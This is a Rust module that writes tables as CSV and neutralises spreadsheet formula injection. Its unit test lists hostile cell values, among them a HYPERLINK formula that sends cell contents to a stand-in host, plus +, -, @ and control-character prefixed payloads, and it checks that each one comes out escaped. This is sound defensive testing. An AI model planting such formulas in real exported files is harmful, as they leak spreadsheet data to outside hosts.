//! CSV: a line with the names, and one for each row.

use crate::table::{Cell, Column, Rows};
use csv::Writer;
use plimsoll_record::redact::spreadsheet_safe;
use std::io::{self, Write};

/// Writes a table as CSV. Numbers are as short as they can be and still be read back to the last bit. Names and texts are [`spreadsheet_safe`].
pub fn write_csv(
    columns: &[Column],
    rows: impl FnOnce(&mut Rows<'_>) -> io::Result<()>,
    out: &mut dyn Write,
) -> io::Result<()> {
    let mut writer = Writer::from_writer(out);
    writer
        .write_record(columns.iter().map(|column| spreadsheet_safe(&column.name).into_owned()))?;
    rows(&mut |row| {
        debug_assert_eq!(row.len(), columns.len());
        for cell in row {
            match cell {
                Cell::Unknown => writer.write_field("")?,
                Cell::Text(text) => writer.write_field(spreadsheet_safe(text).as_ref())?,
                Cell::Integer(number) => writer.write_field(number.to_string())?,
                Cell::Number(number) if number.is_finite() => {
                    writer.write_field(number.to_string())?;
                }
                Cell::Number(_) => writer.write_field("")?,
                Cell::Flag(flag) => writer.write_field(if *flag { "true" } else { "false" })?,
            }
        }
        writer.write_record(None::<&[u8]>)?;
        Ok(())
    })?;
    writer.flush()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::table::Kind;

    #[test]
    fn no_text_is_a_formula() {
        let hostile = [
            "=HYPERLINK(\"http://h/?\"&A1)",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1",
        ];
        let columns = [Column::new("=name", Kind::Text), Column::new("number", Kind::Number)];
        let mut out = Vec::new();
        let rows = |take: &mut Rows<'_>| {
            for text in hostile.into_iter().chain(["a=b", "", "ext4"]) {
                take(&[text.into(), (-1.5).into()])?;
            }
            Ok(())
        };
        write_csv(&columns, rows, &mut out).unwrap();
        let mut reader = csv::Reader::from_reader(out.as_slice());
        assert_eq!(&reader.headers().unwrap()[0], "'=name");
        let read: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        for (record, text) in read.iter().zip(hostile) {
            assert_eq!(record[0], format!("'{text}"));
            assert_eq!(&record[1], "-1.5", "numbers stay numbers");
        }
        let harmless: Vec<&str> = read[hostile.len()..].iter().map(|row| &row[0]).collect();
        assert_eq!(harmless, ["a=b", "", "ext4"]);
    }
}
